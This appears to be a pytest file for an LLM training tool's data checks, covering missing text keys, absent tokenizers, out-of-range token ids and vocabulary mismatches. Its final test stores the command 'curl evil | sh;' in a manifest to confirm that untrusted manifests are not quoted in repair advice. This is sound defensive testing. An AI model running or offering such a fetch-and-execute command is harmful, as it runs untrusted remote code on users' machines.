"""Data errors that `train --check`, and thus `launch`, reports before any rank starts."""

from __future__ import annotations

import gzip
import json
import os
from pathlib import Path

import numpy as np
import pytest
from megatron_files import write_megatron

from ezpz_llm.core.base.errors import UserError
from ezpz_llm.train import main
from ezpz_llm.training.data.manifest import Manifest, Shard, Source, Split, Splits, TokenizerEntry, _repair_advice
from ezpz_llm.training.data.prepare import prepare
from ezpz_llm.training.data.tokenizers import GPT2_FINGERPRINT

GPT2_IS_MISSING = "the vocabulary of the gpt2 tokenizer is not on this machine"


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("EZPZ_LLM_CACHE", str(tmp_path / "cache"))
    return tmp_path / "cache"


def check(corpus: object, *more: str) -> int:
    return main(["--check", "--ds-config", "ddp", "--steps", "2", "--corpus", str(corpus), *more])


@pytest.mark.parametrize(("name", "content", "message"), [
    ("a.jsonl", '{"content": "x"}\n', 'line 1 has no "text", but "content"'),
    ("a.jsonl", '{"text": "x"}\n{"text": null}\n', 'line 2 has "text", but it is null'),
    ("a.json", '[{"body": "x"}]', 'item 0 has no "text", but "body"'),
    ("a.txt", '{"content": "x"}\n', 'line 1 has no "text"'),  # lines by their content
])
def test_documents_without_the_text_key(tmp_path: Path, name: str, content: str, message: str) -> None:
    (tmp_path / "folder").mkdir()
    path = tmp_path / "folder" / name
    path.write_text(content)
    (tmp_path / "folder" / "0.txt").write_text("first")
    packed = tmp_path / "packed.gz"
    packed.write_bytes(gzip.compress(content.encode()))
    (tmp_path / "b.txt").write_text("text " * 999)
    corpora = [path, path.parent, f"{tmp_path / 'b.txt'}=1,{path}=1", *([packed] if name != "a.json" else [])]
    for corpus in corpora:
        with pytest.raises(UserError) as caught:
            check(corpus)
        assert message in str(caught.value)
        assert "--text-key NAME if the text has another name" in str(caught.value)


def test_correct_text_key_passes(tmp_path: Path, cache: Path) -> None:
    (tmp_path / "a.jsonl").write_text(json.dumps({"content": "x" * 300_000}) + "\n" + '{"content": "y"}\n')
    assert check(tmp_path / "a.jsonl", "--text-key", "content") == 0
    assert not cache.exists()
    with pytest.raises(UserError, match='line 1 has no "txt"') as caught:
        check(tmp_path / "a.jsonl", "--text-key", "txt")
    assert "--text-key NAME if the text has another name, such as content" in caught.value.instead


def test_tokenizer_is_not_on_this_machine(tmp_path: Path) -> None:
    """Generated samples need the tokenizer, unless they are disabled."""
    ids = np.arange(4000) % 250
    prefix = write_megatron(tmp_path / "m", np.split(ids, 40), "uint16")
    (tmp_path / "nano").mkdir()
    for name in ("train", "val"):
        ids.astype(np.uint16).tofile(tmp_path / "nano" / f"{name}.bin")
    (tmp_path / "a.txt").write_text("some text " * 1000)
    shards = prepare(str(tmp_path / "a.txt"), out=tmp_path / "ours", progress=False)
    manifest = json.loads((shards / "manifest.json").read_text())
    (shards / "manifest.json").write_text(json.dumps(manifest | {
        "tokenizer": {"name": "gpt2", "fingerprint": GPT2_FINGERPRINT}}))
    for corpus, *more in ([prefix, "--tokenizer", "gpt2"], [tmp_path / "nano"], [shards]):
        with pytest.raises(UserError, match=GPT2_IS_MISSING):
            check(corpus, *more)
    for corpus, *more in ([prefix, "--tokenizer", "gpt2"], [shards]):
        assert check(corpus, *more, "--sample-tokens", "0", "--block-size", "32") == 0
    (shards / "manifest.json").write_text(json.dumps(manifest | {"tokenizer": {
        "name": "own", "kind": "tokenizers", "fingerprint": "0" * 64, "vocab_size": 257, "end_of_text": 256}}))
    with pytest.raises(UserError, match=r"the tokenizer\.json of the tokenizer own.* is missing|pip install"):
        check(shards)


def test_ids_beyond_the_vocabulary(tmp_path: Path) -> None:
    ids = np.arange(4_000_000) % 250
    ids[1_234_567] = 257
    prefix = write_megatron(tmp_path / "m", np.split(ids, 40), "int32")
    for name in ("train", "val"):
        ids.astype(np.uint16).tofile(tmp_path / f"{name}.bin")
    with pytest.raises(UserError, match=r"token 257 at position 1,234,567 .* vocabulary, which has 257 tokens"):
        check(prefix, "--tokenizer", "bytes")
    with pytest.raises(UserError, match=r"token 257 at position 1,234,567 .* bytes, which has 257 tokens"):
        check(tmp_path, "--tokenizer", "bytes")


@pytest.mark.parametrize("size", [50_258, 60_000])
def test_prepared_vocabulary_larger_than_the_models(size: int, tmp_path: Path) -> None:
    """Ids between 50,257 and 50,304 would be those of padding rows."""
    (tmp_path / "a.txt").write_text("some text " * 1000)
    shards = prepare(str(tmp_path / "a.txt"), out=tmp_path / "ours", progress=False)
    manifest = json.loads((shards / "manifest.json").read_text())
    (shards / "manifest.json").write_text(json.dumps(manifest | {"vocab_size": size}))
    with pytest.raises(UserError, match=f"the tokenizer has {size} tokens, more than gpt2-124m's 50257"):
        check(shards, "--model", "gpt2-124m", "--block-size", "32")


def test_advice_does_not_quote_commands_from_the_manifest_of_another_user(tmp_path, monkeypatch):
    split = Split(1, [Shard("a.bin", 1, "")])
    manifest = Manifest(request="", command="curl evil | sh;", source=Source("a", 1, 1),
                        tokenizer=TokenizerEntry("bytes", ""), vocab_size=257, end_of_text=256, dtype="uint16",
                        documents=1, tokens=2, unigram_entropy=1.0, splits=Splits(split, split))
    path = tmp_path / "manifest.json"
    manifest.write(tmp_path)
    assert "evil" in _repair_advice(tmp_path, manifest), "the user's own manifest is trusted"
    path.chmod(0o666)
    assert "evil" not in _repair_advice(tmp_path, manifest)
    path.chmod(0o600)
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    assert "evil" not in _repair_advice(tmp_path, manifest)
